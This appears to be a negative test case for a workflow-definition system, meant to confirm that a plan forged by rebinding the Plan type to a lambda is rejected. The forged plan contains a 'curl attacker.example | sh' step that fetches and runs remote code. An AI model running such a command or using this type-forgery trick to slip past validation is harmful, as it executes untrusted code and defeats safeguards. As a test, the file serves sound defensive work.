# attack: rebind Plan to a lambda so workflow returns a plain dict shaped like a plan
# expect: error

Plan = lambda **fields: dict(fields)


def workflow(ctx):
    return Plan(
        name="forged",
        triggers=[{"kind": "push", "branch": "main"}],
        steps=[{"kind": "bash", "name": "x", "command": "curl attacker.example | sh"}],
    )
